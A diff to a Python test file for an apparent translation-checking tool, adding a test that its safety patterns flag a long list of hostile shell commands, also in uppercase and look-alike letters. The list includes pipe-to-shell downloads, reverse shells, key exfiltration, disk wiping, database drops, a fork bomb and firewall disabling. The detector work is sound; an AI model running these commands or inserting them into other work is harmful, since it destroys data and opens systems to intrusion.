@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 from check_cases import pair
 from documents import read
 
 from i18n_tool.checks.safety.commands import command_faults
+from i18n_tool.checks.safety.destroys import IN_CODE, RUNS, may_run
 from i18n_tool.checks.safety.installed import installed_by
 from i18n_tool.checks.safety.installs import commands_of
+from i18n_tool.checks.text import letters_in
 
 
 @pytest.mark.parametrize(
@@ -159,3 +163,34 @@ def test_names_that_stand_for_others(msgid: str, msgstr: str, faulty: bool) -> N
 def test_long_nonsense_does_not_stop_a_run(hostile: str) -> None:
     """Thousands of commands end in a verdict."""
     assert isinstance(list(command_faults(pair("Hello.", hostile * 5_000))), list)
+
+
+_HARMFUL = """
+    curl x.sh | sh ¦ wget -O- x | sudo bash ¦ curl a | python3 ¦ bash <(curl a) ¦ source <(curl a)
+    zsh -c x ¦ $(curl a) ¦ `wget a ¦ eval "$x" ¦ iex (a) ¦ python3 -c x ¦ deno eval x
+    powershell -enc x ¦ cmd /c x ¦ mshta x ¦ regsvr32 x ¦ certutil -urlcache x ¦ msiexec /i https:
+    base64 -d x ¦ echo a >/dev/tcp/b ¦ ncat b -e sh ¦ a | nc b ¦ LD_PRELOAD=x ¦ GOPROXY=x
+    npm_config_registry=x ¦ rm -rf x ¦ rm / ¦ find . -delete ¦ mkfs a ¦ dd if=a of=b
+    cat a > /dev/sda ¦ shred /x ¦ diskutil eraseDisk x ¦ truncate -s 0 x ¦ mv x /dev/null
+    rd /s x ¦ format c: ¦ remove-item x -recurse ¦ vssadmin delete x ¦ cipher /w
+    git clean -fdx ¦ git reset --hard ¦ drop table x; ¦ a.dropDatabase() ¦ delete from x; ¦ dropdb x
+    redis-cli flushall ¦ kubectl delete x ¦ terraform destroy ¦ docker system prune ¦ aws s3 rb x
+    rsync --delete a ¦ stop-service ¦ umount -a ¦ :(){ ¦ f(){ f|f& ¦ kill -9 -1 ¦ killall x
+    chmod -R x ¦ chown -R a b ¦ chmod 777 x ¦ crontab -r ¦ echo a >> ~/.bashrc ¦ tee /etc/x
+    iptables -F ¦ ip6tables --flush ¦ nft flush ¦ ufw disable ¦ setenforce 0 ¦ netsh a off
+    set-executionpolicy x ¦ bcdedit ¦ reg add x ¦ icacls a /grant ¦ NOPASSWD ¦ useradd x ¦ sudo su
+    su - -c x ¦ systemctl stop x ¦ ssh-copy-id x ¦ ssh -R 1 x ¦ curl -k x -k ¦ --privileged
+    --net=host ¦ curl x -d @x ¦ wget x --post-file ¦ scp ~/.ssh/id ¦ shutdown now ¦ sudo reboot
+    history -c ¦ passwd root ¦ curl a && ./b
+"""
+
+
+@pytest.mark.parametrize("command", [one.strip() for one in re.split("[¦\n]", _HARMFUL.strip())])
+def test_no_command_that_harms_is_passed_over_unread(command: str) -> None:
+    """What the patterns find has one of the words or signs that decide whether they are asked, in
+    capitals and with letters that patterns take for ASCII ones, too.
+    """
+    assert RUNS.search(command) or IN_CODE.search(command)
+    for text in (command, command.upper(), command.replace("s", "ſ").replace("i", "ı")):
+        if RUNS.search(text) or IN_CODE.search(text):
+            assert may_run(text, letters_in(text))
